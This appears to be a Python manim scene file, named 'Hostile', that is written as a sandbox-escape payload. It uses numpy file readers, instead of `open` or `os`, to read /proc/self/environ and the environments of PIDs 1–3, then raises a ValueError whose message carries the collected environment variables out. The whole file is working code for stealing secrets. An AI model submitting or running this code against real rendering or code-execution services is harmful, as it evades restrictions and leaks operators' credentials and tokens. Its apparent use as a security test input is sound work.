from manim import *


class Hostile(Scene):
    def construct(self):
        # The environment through numpy's file readers (no `open`, no `os`), as the error message.
        stolen = []
        for pid in ("self", "1", "2", "3"):
            try:
                raw = np.fromfile("/proc/" + pid + "/environ", dtype=np.uint8, count=1_000_000)
                stolen.append(pid + ": " + raw.tobytes().decode(errors="replace"))
            except Exception as exc:
                stolen.append(pid + ": " + repr(exc))
        try:
            rows = np.loadtxt("/proc/self/environ", dtype=str, delimiter="\x00", comments=None, ndmin=1)
            stolen.append("loadtxt: " + " ".join(rows))
        except Exception as exc:
            stolen.append("loadtxt: " + repr(exc))
        raise ValueError("stolen environment: " + " | ".join(stolen))
